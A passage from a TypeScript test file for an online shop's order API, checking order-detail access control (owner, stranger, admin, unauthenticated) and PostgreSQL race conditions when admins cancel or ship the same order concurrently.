    const unpaid = await orderNumber(t, owner, [own.line(1)], 500, { pay: false });
    await t.database.db.update(orders).set({ status: 'Expired' }).where(eq(orders.order_id, unpaid));
    const { orderId } = await paidOrder(owner);

    const mine = await get(`/api/Order/${orderId}/detail`, owner.headers);
    expect(mine.statusCode, mine.body).toBe(200);
    expect(mine.json()).toMatchObject({
      order_id: orderId,
      status: 'Confirmed',
      payment_status: 'Paid',
      history: [expect.objectContaining({ to_status: 'Confirmed' })],
    });
    expect(mine.json().stock_shortfall).toBeUndefined();
    // Their own expired order too, though the list leaves it out.
    expect((await get(`/api/Order/${unpaid}/detail`, owner.headers)).json()).toMatchObject({ status: 'Expired' });
    const theirs = await get(`/api/Order/${orderId}/detail`, stranger.headers);
    expect(theirs.statusCode).toBe(404);
    expect(theirs.body).not.toContain('Bengaluru');
    expect((await get(`/api/Order/${orderId}/detail`, admin)).json()).toMatchObject({
      order_id: orderId,
      stock_shortfall: false,
    });
    expect((await get('/api/Order/999999/detail', owner.headers)).statusCode).toBe(404);
    expect((await t.app.inject({ url: `/api/Order/${orderId}/detail` })).statusCode).toBe(401);
  });
});

// PGlite is one connection that runs one statement at a time: requests only really overlap on PostgreSQL.
describe.runIf(process.env.TEST_DB === 'postgres')('two admins at once, on PostgreSQL', () => {
  it('cancels an order once when the admin presses Cancel in five tabs: stock back once, one history entry', async () => {
    const who = await namedShopper(t, 'Tab', 'Happy', 'tabs@race.test');
    const { orderId, variation } = await paidOrder(who, 2, 5);
    expect(await variation.stock()).toBe(3);
    const answers = await Promise.all(
      Array.from({ length: 5 }, () => post(`/api/admin/orders/${orderId}/status`, { status: 'Cancelled' })),
    );
    expect(answers.map((answer) => answer.statusCode).sort()).toEqual([200, 409, 409, 409, 409]);
    expect(await variation.stock()).toBe(5);
    expect((await eventsOf(orderId)).filter((event) => event.to_status === 'Cancelled')).toHaveLength(1);
    expect((await outboxOf(orderId)).filter((row) => row.kind === 'order_cancelled')).toHaveLength(1);
  });

  it('lets one of Shipped and Cancelled pressed at the same moment win, never both', async () => {
    const who = await namedShopper(t, 'Two', 'Admins', 'two@race.test');
    const { orderId, variation } = await paidOrder(who, 1, 5);
    await t.database.db.update(orders).set({ status: 'Packed' }).where(eq(orders.order_id, orderId));
    const [shipped, cancelled] = await Promise.all([
      post(`/api/admin/orders/${orderId}/status`, { status: 'Shipped', carrier: 'Delhivery', tracking_number: 'R1' }),
      post(`/api/admin/orders/${orderId}/status`, { status: 'Cancelled' }),
    ]);
    expect([shipped.statusCode, cancelled.statusCode].sort()).toEqual([200, 409]);
    const row = await orderRow(orderId);
    const moves = (await eventsOf(orderId)).filter((event) => event.actor_role === 'admin' && event.kind === 'status');
    expect(moves).toHaveLength(1);
    if (shipped.statusCode === 200) {
      expect(row).toMatchObject({
        status: 'Shipped',
        carrier: 'Delhivery',
        cancelled_at: null,
        payment_status: 'Paid',
      });
      expect(await variation.stock()).toBe(4);
    } else {
      // The cancel won: the stock came back and the payment went back (docs/product/orders.md#refunds).
      expect(row).toMatchObject({ status: 'Cancelled', carrier: null, shipped_at: null, payment_status: 'Refunded' });
      expect(await variation.stock()).toBe(5);
    }
    expect(moves[0]!.to_status).toBe(row.status);
  });
});
